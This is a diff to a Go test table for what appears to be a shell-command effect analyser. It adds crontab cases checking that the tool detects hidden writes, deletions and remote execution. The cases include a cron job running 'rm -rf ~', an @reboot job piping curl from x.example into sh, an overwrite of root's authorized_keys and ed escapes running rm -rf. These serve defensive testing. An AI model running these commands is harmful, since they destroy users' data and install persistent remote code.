@@ -160,6 +160,10 @@ var hiddenCommandTable = []shellCase{
 	{cmd: `sftp u@198.51.100.23 <<< 'get /tools/a.sh /usr/local/bin/a'`, want: []Effect{eDl("sftp://198.51.100.23/tools/a.sh", "/usr/local/bin/a")}},
 	{cmd: "ftp -n 198.51.100.23 <<< $'get agent.sh /usr/local/bin/agent'", want: []Effect{eDl("ftp://198.51.100.23/agent.sh", "/usr/local/bin/agent")}},
 	{cmd: `echo -e 'package main\nimport "os"\nfunc main(){ os.WriteFile("/root/.ssh/authorized_keys", nil, 0644) }' > /tmp/x.go; go run /tmp/x.go`, want: []Effect{eWrite("/root/.ssh/authorized_keys")}},
+	// ---- a crontab installed from standard input: its jobs are read ----
+	{cmd: `echo "*/5 * * * * rm -rf ~" | crontab -`, want: []Effect{eWrite("/var/spool/cron/crontabs/ann"), eDelR("/home/ann")}},
+	{cmd: `echo "@reboot curl -s https://x.example/a | sh" | crontab`, want: []Effect{eWrite("/var/spool/cron/crontabs/ann"), eRun("sh")}, unk: shUnkYes},
+	{cmd: `crontab -u root jobs.txt`, want: []Effect{eRead("/work/proj/jobs.txt"), eWrite("/var/spool/cron/crontabs/root")}},
 	// ---- editors reading their commands from standard input ----
 	{cmd: "printf '!rm -rf ~\\n' | ed", want: []Effect{eDelR("/home/ann")}},
 	{cmd: `ed <<< '!rm -rf ~'`, want: []Effect{eDelR("/home/ann")}},
@@ -185,6 +189,7 @@ var hiddenCommandTable = []shellCase{
 	{cmd: "printf '1d\\nw\\n' | ed notes.txt", want: []Effect{eWrite("/work/proj/notes.txt")}, not: []Effect{eRun("sh")}},
 	{cmd: `ed notes.txt < /dev/null`, want: []Effect{eWrite("/work/proj/notes.txt")}},
 	{cmd: `git apply fix.patch`, not: []Effect{eWriteR("/")}},
+	{cmd: `crontab -l | grep backup`, not: []Effect{eWrite("/var/spool/cron/crontabs/ann")}},
 	{cmd: `tar xf a.tar --transform 's,^,vendor/,'`, want: []Effect{eWriteR("/work/proj")}, not: []Effect{eWriteR("/")}},
 	{cmd: `smbclient //fs/share -U ann -c 'get report.pdf'`, want: []Effect{eDl("smb://fs/report.pdf", "/work/proj/report.pdf")}},
 	{cmd: `cat draft.md | vim -`, not: []Effect{eOpaqueInto("vim")}},
